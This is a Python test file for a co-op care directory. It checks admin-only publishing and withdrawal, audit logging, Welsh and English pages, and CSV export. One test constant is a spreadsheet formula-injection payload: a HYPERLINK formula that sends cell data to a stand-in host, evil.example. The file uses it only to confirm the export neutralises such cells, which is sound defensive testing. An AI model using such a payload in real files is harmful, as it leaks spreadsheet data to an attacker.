"""The public directory by consent (issue 13): a co-op admin publishes and withdraws the
co-op's entry, audited; anyone reads the list and the map in Welsh or English; the CSV
is safe to open in a spreadsheet, even for a co-op named like a formula.
"""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from core.audit import AuditEvent
from core.db import db
from services.directory.models import DirectoryArea, DirectoryListing
from tenants.registry.models import Coop
from tests.fixtures.app import csrf_token, sign_in
from tests.fixtures.factories import PASSWORD, add_member, create_account

FORMULA_NAME = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
ENTRY = {"la_codes": ["W06000018", "W06000022"], "services": "+Care at home, -nights",
         "services_cy": "Gofal yn y cartref", "welsh_offer": "active_offer",
         "ciw_service_id": "SIN-00012345-ABCD",
         "rating_url": "https://www.careinspectorate.wales/service/SIN-00012345-ABCD",
         "taking_new_people": "yes", "publish": "yes"}


def _client(app, account):
    client = app.test_client()
    assert sign_in(client, account.email, PASSWORD).status_code == 302
    return client


def _post(client, slug, data, path=""):
    token = csrf_token(client, f"/c/{slug}/directory/")
    return client.post(f"/c/{slug}/directory/{path}", data={**data, "csrf_token": token})


def _actions(app, coop_id):
    with app.app_context():
        return list(db.session.scalars(select(AuditEvent.action).where(
            AuditEvent.coop_id == coop_id, AuditEvent.action.like("directory.%"))
            .order_by(AuditEvent.id)))


def _rename(app, coop_id, name):
    with app.app_context():
        db.session.get(Coop, coop_id).name = name
        db.session.commit()


def test_publish_list_and_withdraw_by_the_admins_choice_only(app, two_coops):
    (a, admin_a), (b, admin_b) = two_coops
    _rename(app, a.id, FORMULA_NAME)
    as_a = _client(app, admin_a)
    assert "not listed" in as_a.get(f"/c/{a.slug}/directory/").get_data(as_text=True)

    # Someone in the co-op who is not its admin may not publish it.
    worker = create_account(app)
    add_member(app, a, worker, "worker")
    as_worker = _client(app, worker)
    assert as_worker.get(f"/c/{a.slug}/directory/").status_code == 403

    # B saves an entry without publishing it; A publishes.
    assert _post(_client(app, admin_b), b.slug, {**ENTRY, "publish": "no",
                                                 "services": "Unpublished care"}).status_code == 302
    assert _post(as_a, a.slug, ENTRY).status_code == 302
    assert _actions(app, a.id) == ["directory.published"]
    assert _actions(app, b.id) == ["directory.saved"]

    public = app.test_client()
    page = public.get("/directory").get_data(as_text=True)
    assert "HYPERLINK" in page and "Unpublished care" not in page
    assert "Caerphilly" in page and 'role="img"' in page
    public.get("/language/cy?next=/")
    welsh = public.get("/directory").get_data(as_text=True)
    assert 'lang="cy"' in welsh
    assert "Gofal yn y cartref" in welsh and "Caerffili" in welsh

    # The CSV neutralises every cell a spreadsheet would run as a formula.
    response = app.test_client().get("/directory.csv")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0][0] == "name"
    entries = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    (row,) = [e for e in entries if "HYPERLINK" in e["name"]]
    assert row["name"] == "'" + FORMULA_NAME
    assert row["services"] == "'+Care at home, -nights"
    assert not any(e["services"] == "Unpublished care" for e in entries)
    for value in (v for r in rows[1:] for v in r):
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value

    # Withdrawing takes the entry out at once, audited; it is kept for next time.
    assert _post(as_a, a.slug, {}, "withdraw").status_code == 302
    assert "HYPERLINK" not in app.test_client().get("/directory").get_data(as_text=True)
    assert _actions(app, a.id) == ["directory.published", "directory.withdrawn"]
    with app.app_context():
        assert db.session.get(DirectoryListing, a.id).published is False


def test_bad_answers_are_named_and_nothing_is_written(app, two_coops):
    (a, admin_a), _ = two_coops
    as_a = _client(app, admin_a)
    response = _post(as_a, a.slug, {**ENTRY, "rating_url": "http://example.org/x",
                                    "la_codes": [], "welsh_offer": "klingon",
                                    "ciw_service_id": "<script>"})
    assert response.status_code == 422
    body = response.get_data(as_text=True)
    for field in ("rating_url", "la_codes", "welsh_offer", "ciw_service_id"):
        assert f'href="#{field}"' in body, field
    with app.app_context():
        assert db.session.get(DirectoryListing, a.id) is None
        assert not db.session.scalars(select(DirectoryArea).where(
            DirectoryArea.coop_id == a.id)).all()
    assert _actions(app, a.id) == []
